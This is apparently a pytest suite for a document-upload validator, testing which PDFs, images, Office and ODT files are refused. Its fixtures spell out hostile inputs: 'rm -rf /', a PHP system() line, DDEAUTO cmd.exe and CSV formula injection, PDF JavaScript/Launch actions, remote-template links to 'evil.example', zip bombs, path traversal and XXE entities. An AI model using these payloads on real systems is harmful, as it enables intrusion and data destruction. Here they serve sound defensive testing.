"""What comes through the door, and what does not: the files are made here, by structure (UPL-01 to UPL-05, UPL-10)."""

import io
import time
import tracemalloc
import zipfile
from collections.abc import Callable

import pikepdf
import pytest
from PIL import Image, ImageFile

from standards.evidence import arrival
from standards.evidence.arrival import ENDINGS, Arrived, receive
from standards.evidence.refusal import WORDS, Refused
from tests import samples

GOOD: dict[str, bytes] = {
    "pdf": samples.pdf(),
    "jpg": samples.picture("JPEG"),
    "png": samples.picture("PNG"),
    "docx": samples.word(),
    "xlsx": samples.excel(),
    "odt": samples.odt(b"<o:p>Text</o:p>"),
    "csv": "indicator,met\nRSK-01-a,yes\n".encode("utf-8-sig"),
    "txt": "Was geprüft wurde\r\n".encode("utf-16"),
}
WORD, EXCEL = GOOD["docx"], GOOD["xlsx"]
TYPES, RELS = samples.part(WORD, "[Content_Types].xml"), samples.part(WORD, "word/_rels/document.xml.rels")
MACRO_TYPES = TYPES.replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.document.macroEnabled.main+xml").replace(
    b"openxmlformats-officedocument", b"ms-word"
)


def relation(purpose: str, target: str) -> bytes:
    added = f'<Relationship Id="rX" Type="http://x/{purpose}" Target="{target}" TargetMode="External"/></Relationships>'
    return samples.with_parts(WORD, {"word/_rels/document.xml.rels": RELS.replace(b"</Relationships>", added.encode())})


def locked_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(samples.pdf())) as file:
        file.save(out, encryption=pikepdf.Encryption(owner="o", user="u"))
    return out.getvalue()


def attached_pdf() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(samples.pdf())) as file:
        file.attachments["x.exe"] = b"MZ"
        file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def field_code(code: str) -> bytes:
    document = samples.part(WORD, "word/document.xml")
    added = f"<w:p><w:r><w:instrText>{code[:2]}</w:instrText></w:r><w:r><w:instrText>{code[2:]}</w:instrText></w:r></w:p></w:body>"
    return samples.with_parts(WORD, {"word/document.xml": document.replace(b"</w:body>", added.encode())})


def take(content: bytes, name: str) -> Arrived:
    return receive(io.BytesIO(content), name)


def refusal(content: bytes, name: str) -> str:
    with pytest.raises(Refused) as refused:
        take(content, name)
    assert str(refused.value)
    return refused.value.code


@pytest.mark.parametrize("kind", GOOD)
def test_what_we_take_comes_in_under_its_own_type(kind: str) -> None:
    for ending in ENDINGS[kind]:
        arrived = take(GOOD[kind], f"Fire check.{ending.upper()}")
        assert arrived.kind == kind
        assert arrived.shown_name == f"Fire check.{kind}"
        assert arrived.media_type == arrival.MEDIA_TYPES[kind]
        if kind not in {"jpg", "png"}:
            assert arrived.content.read() == GOOD[kind]


@pytest.mark.parametrize("kind", GOOD)
@pytest.mark.parametrize("ending", [*GOOD, "exe", "html", "svg", ""])
def test_upl_01_a_name_that_says_something_else_is_refused(kind: str, ending: str) -> None:
    if ending in ENDINGS[kind] or {kind, ending} == {"txt", "csv"}:
        return  # text under either name is text
    assert refusal(GOOD[kind], f"check.{ending}" if ending else "check") in {"name", "type"}


FOREIGN: dict[str, bytes] = {
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "html": b"<!doctype html><script>alert(1)</script>",
    "html after a line": b"\n\n  <html><body onload=alert(1)>",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
    "xml": b'<?xml version="1.0"?><a/>',
    "mhtml": b"From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related",
    "hta": b"<html><hta:application/></html>",
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00",
    "exe": b"MZ\x90\x00\x03\x00\x00\x00",
    "elf": b"\x7fELF\x02\x01\x01\x00",
    "dmg": b"\x00" * 64 + b"koly",
    "iso": b"\x00" * 64 + b"CD001",
    "jar": samples.archive({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0", "A.class": b"\xca\xfe\xba\xbe"}),
    "apk": samples.archive({"AndroidManifest.xml": b"\x03\x00", "classes.dex": b"dex"}),
    "zip": samples.archive({"a.txt": b"a"}),
    "empty zip": samples.EMPTY_ZIP,
    "swf": b"CWS\x0a\x00\x00",
    "ps": b"%!PS-Adobe-3.0\n",
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system('id');",
    "rtf": b"{\\rtf1\\ansi x}",
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "bmp": b"BM\x00\x00\x00\x00",
    "webp": b"RIFF\x00\x00\x00\x00WEBP",
    "tiff": b"II*\x00\x08\x00\x00\x00",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04",
    "rar": b"Rar!\x1a\x07\x00",
    "gzip": b"\x1f\x8b\x08\x00\x00\x00",
    "class": b"\xca\xfe\xba\xbe\x00\x00",
    "nul in text": b"Name\x00Value",
    "latin-1": "geprüft".encode("latin-1"),
    "utf-32": "text".encode("utf-32"),
    "half a UTF-8": b"ok \xe2\x82",
    "word with macros": samples.with_parts(WORD, {"[Content_Types].xml": MACRO_TYPES}),
    "word with a project": samples.with_parts(WORD, {"word/vbaProject.bin": b"x"}),
    "word with an embedded file": samples.with_parts(WORD, {"word/embeddings/oleObject1.bin": b"x"}),
    "word with a program": samples.with_parts(WORD, {"word/media/run.exe": b"MZ"}),
    "word with a control": samples.with_parts(WORD, {"word/activeX/activeX1.xml": b"<a/>"}),
    "word with a template from elsewhere": relation("attachedTemplate", "https://evil.example/t.dotm"),
    "word with a picture from elsewhere": relation("image", "https://evil.example/canary.png"),
    "word with a frame": relation("frame", "https://evil.example/"),
    "word with a link to a file": relation("hyperlink", "file:///etc/passwd"),
    "word that starts a program": field_code("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "word that includes a picture": field_code('INCLUDEPICTURE "http://evil.example/x"'),
    "excel with a link to another book": samples.with_parts(EXCEL, {"xl/externalLinks/externalLink1.xml": b"<a/>"}),
    "excel with a macro sheet": samples.with_parts(EXCEL, {"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "excel with a connection": samples.with_parts(EXCEL, {"xl/connections.xml": b"<a/>"}),
    "powerpoint": samples.with_parts(
        WORD, {"[Content_Types].xml": TYPES.replace(b"wordprocessingml.document.main", b"presentationml.presentation.main")}
    ),
    "odt with a script": samples.odt(b'<x:event-listener x:href="vnd.sun.star.script:x"/>'),
    "odt with Basic": samples.odt(extra={"Basic/Standard/Module1.xml": b"<a/>"}),
    "odt with an object": samples.odt(extra={"Object 1/content.xml": b"<a/>"}),
    "odt with a picture from elsewhere": samples.odt(b'<x:image x:href="http://evil.example/x.png"/>'),
    "odt with a password": samples.odt(manifest=samples.MANIFEST.replace(b"/></m", b"><m:encryption-data/></m:file-entry></m")),
    "odt with another type": samples.odt().replace(samples.ODT_TYPE, samples.ODT_TYPE.replace(b"text", b"base")),
    "zip with a password": samples.promising(100, flags=1),
    "pdf with a script": samples.pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "pdf with a hidden script": samples.pdf(b"/OpenAction << /S /Java#53cript /JS (x) >>"),
    "pdf with a packed script": samples.pdf(packed=b"9 0 << /S /JavaScript /JS (x) >>"),
    "pdf that starts a program": samples.pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "pdf that sends a form": samples.pdf(b"/AA << /O << /S /SubmitForm /F (http://x) >> >>"),
    "pdf with a form of XML": samples.pdf(b"/AcroForm << /XFA 9 0 R >>"),
    "pdf with a film": samples.pdf(b"/X << /Subtype /RichMedia >>"),
    "pdf with a file": attached_pdf(),
    "pdf with a password": locked_pdf(),
    "pdf without an end": samples.pdf()[:-40],
    "pdf with its mark later": b"junk\n" + samples.pdf(),
    "nothing": b"",
}  # fmt: skip


@pytest.mark.parametrize("what", FOREIGN)
def test_upl_01_what_is_not_on_the_list_comes_in_under_no_name(what: str) -> None:
    for ending in (*GOOD, "zip", "html", "svg", "exe", "docm", "PDF ", "jpeg"):
        assert refusal(FOREIGN[what], f"Fire check.{ending}") in WORDS


def test_upl_01_the_reason_is_the_true_one() -> None:
    reasons = {
        "word with macros": "macros", "word with a template from elsewhere": "outside", "word that starts a program": "outside",
        "word with an embedded file": "embedded", "pdf with a script": "active", "pdf with a hidden script": "active",
        "pdf with a packed script": "active", "pdf with a file": "embedded", "pdf with a password": "encrypted",
        "zip with a password": "encrypted", "odt with a password": "encrypted", "excel with a macro sheet": "macros", "nothing": "empty",
        "latin-1": "text", "odt with a picture from elsewhere": "outside",
    }  # fmt: skip
    names = {"word": "docx", "excel": "xlsx", "odt": "odt", "pdf": "pdf", "zip": "docx"}
    found = {what: refusal(FOREIGN[what], f"a.{names.get(what.split()[0], 'txt')}") for what in reasons}
    assert found == reasons


def test_a_link_to_be_clicked_may_stay() -> None:
    assert take(relation("hyperlink", "https://www.gov.uk/"), "a.docx").kind == "docx"
    assert take(samples.odt(b'<x:a x:href="https://www.gov.uk/">x</x:a>'), "a.odt").kind == "odt"


def test_a_pdf_of_another_maker_comes_in() -> None:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(samples.pdf(b"/Lang (en)"))) as file:
        file.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
    assert take(out.getvalue(), "a.pdf").content.read() == out.getvalue()


@pytest.mark.parametrize("cell", ["=1+1", "\"=cmd|'/C calc'!A0\"", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=HYPERLINK(1)"])
def test_a_table_that_works_things_out_is_refused(cell: str) -> None:
    assert refusal(f"a,b\n1,{cell}\n".encode(), "a.csv") == "formula"


def test_a_table_of_values_is_not_mistaken_for_formulas() -> None:
    for cell in ("-5", "+44 (0)20 7946 0000", "- see note (a)", "@home", "a=b"):
        assert take(f"a;b\n1;{cell}\n".encode(), "a.csv").kind == "csv"


# --- Two kinds at once (UPL-02) ---------------------------------------------------------------------------------------

LARGE_ARCHIVE = samples.archive({"x.html": b"<script>1</script>"})
POLYGLOTS: dict[str, tuple[str, bytes]] = {
    "GIF and script": ("png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    "PDF and HTML": ("pdf", samples.pdf(head=b"%PDF-1.7\n<html><script>alert(1)</script></html>\n")),
    "PDF and ZIP behind": ("pdf", samples.pdf(tail=LARGE_ARCHIVE)),
    "PDF in a ZIP's comment": ("pdf", samples.pdf(b"/X (" + LARGE_ARCHIVE + b")")),
    "Word and ZIP before": ("docx", b"PK\x03\x04" + bytes(60) + WORD),
    "Word and something behind": ("docx", WORD + b"<script>alert(1)</script>"),
    "picture before Word": ("docx", samples.picture("JPEG") + WORD),
    "HTML in the first kilobyte of a text": ("txt", b"Notes\n\n<script>alert(1)</script>"),
}


@pytest.mark.parametrize("what", POLYGLOTS)
def test_upl_02_two_kinds_at_once_are_refused(what: str) -> None:
    ending, content = POLYGLOTS[what]
    assert refusal(content, f"a.{ending}") in {"mixed", "broken", "type", "name", "embedded"}


@pytest.mark.parametrize(
    ("ending", "content"),
    [
        ("jpg", samples.picture("JPEG") + LARGE_ARCHIVE),
        ("jpg", samples.picture("JPEG", comment=b"<script>alert(1)</script>")),
        ("jpg", samples.picture("JPEG") + b"<?php __HALT_COMPILER(); ?>"),
        ("png", samples.picture("PNG") + b"<html><script>alert(1)</script>"),
    ],
)
def test_upl_02_a_picture_leaves_behind_what_was_hidden_in_it(ending: str, content: bytes) -> None:
    kept = take(content, f"a.{ending}").content.read()
    assert kept != content
    assert not any(bait in kept for bait in (b"<script", b"<?php", b"PK\x03\x04", b"<html"))


# --- Bombs (UPL-03, UPL-04) -------------------------------------------------------------------------------------------


def measured(act: Callable[[], object]) -> tuple[float, float]:
    """Seconds, and megabytes at the peak."""
    tracemalloc.start()
    began = time.perf_counter()
    act()
    seconds = time.perf_counter() - began
    peak = tracemalloc.get_traced_memory()[1] / 1e6
    tracemalloc.stop()
    return seconds, peak


def links() -> bytes:
    return samples.promising(100, external=0o120777 << 16)


def nested() -> bytes:
    inner = samples.archive({f"{number}.zip": samples.archive({"0": bytes(1_000_000)}) for number in range(16)})
    return samples.with_parts(WORD, {f"word/media/{number}.zip": inner for number in range(16)})


def million() -> bytes:
    return samples.promising(0, entries=70_000, packed=0)


def lying() -> bytes:
    """The directory says a kilobyte; a hundred megabytes come out."""
    document = bytearray(samples.with_parts(WORD, {"word/media/a.png": bytes(100_000_000)}))
    size = (100_000_000).to_bytes(4, "little")
    while size in document:
        place = document.index(size)
        document[place : place + 4] = (1_000).to_bytes(4, "little")
    return bytes(document)


def escaping() -> bytes:
    return samples.with_parts(WORD, {"../../etc/cron.d/x.xml": b"<a/>"})


BOMBS: dict[str, tuple[Callable[[], bytes], set[str]]] = {
    "overlapping entries": (samples.overlapping, {"bomb"}),
    "overlapping entries, huge": (lambda: samples.overlapping(1_900, 100_000), {"bomb"}),
    "a million entries": (million, {"bomb", "mixed"}),
    "2,001 entries": (lambda: samples.promising(0, entries=2_001, packed=0), {"bomb"}),
    "a part of 4 GB": (lambda: samples.promising(0xFFFFFFFE), {"bomb"}),
    "many large parts": (lambda: samples.promising(90 * 2**20, entries=40), {"bomb"}),
    "one very dense part": (lambda: samples.with_parts(WORD, {"word/media/a.png": bytes(60_000_000)}), {"bomb"}),
    "a directory that lies": (lying, {"bomb", "broken"}),
    "archives in archives": (nested, {"embedded", "bomb"}),
    "a link": (links, {"broken"}),
    "a name that leads out": (escaping, {"broken"}),
    "twice the same name": (lambda: samples.with_parts(WORD, {"WORD/document.xml": b"<a/>"}), {"broken"}),
}


@pytest.mark.parametrize("what", BOMBS)
def test_upl_03_a_bomb_is_known_by_its_directory(what: str, capsys: pytest.CaptureFixture[str]) -> None:
    make, codes = BOMBS[what]
    content = make()
    seconds, peak = measured(lambda: codes.__contains__(refusal(content, "a.docx")) or pytest.fail("taken for something else"))
    with capsys.disabled():
        print(f" [{what}: {len(content) / 1e6:.1f} MB, {seconds * 1000:.0f} ms, {peak:.1f} MB]", end="")
    assert seconds < 2
    assert peak < 50


def test_upl_03_zip_64_and_archives_in_parts_are_refused() -> None:
    with_end = bytearray(WORD)
    with_end[-12:-6] = b"\xff" * 6
    assert refusal(bytes(with_end), "a.docx") in {"bomb", "mixed"}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file, file.open("a.xml", "w", force_zip64=True) as entry:
        entry.write(b"<a/>")
    assert refusal(out.getvalue(), "a.docx") in WORDS


def test_upl_04_a_huge_picture_is_refused_by_its_header() -> None:
    for content in (samples.png_header(50_000, 50_000), samples.png_header(2**31 - 1, 2**31 - 1), samples.png_header(25_000_001, 1)):
        seconds, peak = measured(lambda content=content: refusal(content, "a.png"))  # type: ignore[misc]
        assert refusal(content, "a.png") == "pixels"
        assert seconds < 1
        assert peak < 10
    jpeg = bytearray(samples.picture("JPEG"))
    frame = jpeg.index(b"\xff\xc0")
    jpeg[frame + 5 : frame + 9] = b"\xff\xff\xff\xff"
    assert refusal(bytes(jpeg), "a.jpg") == "pixels"


def test_upl_04_an_animated_picture_keeps_its_first_frame() -> None:
    out = io.BytesIO()
    frames = [Image.new("RGB", (30, 30), (number, 0, 0)) for number in range(60)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    kept = Image.open(take(out.getvalue(), "a.png").content)
    assert getattr(kept, "n_frames", 1) == 1
    assert kept.getpixel((5, 5)) == (0, 0, 0)


def test_upl_04_a_broken_picture_is_refused_though_another_library_lets_such_pass(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # what WeasyPrint does when it is imported
    assert refusal(samples.picture("JPEG")[:200], "a.jpg") == "broken"
    assert refusal(samples.picture("PNG", icc_profile=bytes(300_000_000 // 50)), "a.png") in {"broken", "bomb"}


def test_upl_04_broken_metadata_does_not_keep_a_picture_out() -> None:
    broken = samples.picture("JPEG", exif=b"Exif\x00\x00II*\x00\xff\xff\xff\xff" + bytes(20))
    assert take(broken, "a.jpg").kind == "jpg"
    assert refusal(samples.picture("JPEG")[:200], "a.jpg") == "broken"
    assert refusal(samples.picture("PNG")[:60], "a.png") == "broken"


def test_upl_04_a_colour_profile_that_unpacks_to_much_is_left_behind() -> None:
    kept = take(samples.picture("PNG", icc_profile=bytes(900_000)), "a.png").content.read()
    assert b"iCCP" not in kept
    assert refusal(samples.picture("PNG", icc_profile=bytes(300_000_000 // 50)), "a.png") in {"broken", "bomb"}


def test_upl_10_a_photograph_forgets_where_it_was_taken() -> None:
    original = samples.photograph()
    assert original.count(b"CANARY-PLACE") >= 3
    kept = take(original, "a.jpg").content.read()
    assert b"CANARY" not in kept
    assert b"Exif" not in kept
    picture = Image.open(io.BytesIO(kept))
    assert not picture.getexif()
    assert picture.size == (20, 40)  # upright now, as the camera held it


def test_upl_10_a_document_that_names_its_author_says_so() -> None:
    assert take(samples.word(author="A Person"), "a.docx").names_author
    assert not take(samples.with_parts(samples.word(), {"docProps/core.xml": b"<a/>"}), "a.docx").names_author
    assert take(samples.pdf(b"/Author (A Person)"), "a.pdf").names_author


# --- XML (UPL-05) -----------------------------------------------------------------------------------------------------

LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(b'<!ENTITY a%d "&a;&a;&a;&a;&a;&a;&a;&a;">' % n for n in range(9)) + b"]><l>&a;</l>"
ELSEWHERE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/canary">]><x>&e;</x>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><x/>'
PLAIN_DTD = b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>'


@pytest.mark.parametrize("xml", [LAUGHS, ELSEWHERE, PARAMETER, PLAIN_DTD, ELSEWHERE.decode().encode("utf-16")])
@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "docProps/core.xml", "_rels/.rels", "[Content_Types].xml"])
def test_upl_05_no_part_may_have_a_document_type(name: str, xml: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("socket.socket.connect", lambda *_: pytest.fail("something was fetched"))
    began = time.perf_counter()
    assert refusal(samples.with_parts(WORD, {name: xml}), "a.docx") == "outside"
    assert refusal(samples.odt(extra={"content.xml": xml}), "a.odt") == "outside"
    assert time.perf_counter() - began < 1


def test_every_reason_has_words() -> None:
    for code in WORDS:
        assert str(Refused(code)).endswith(".")
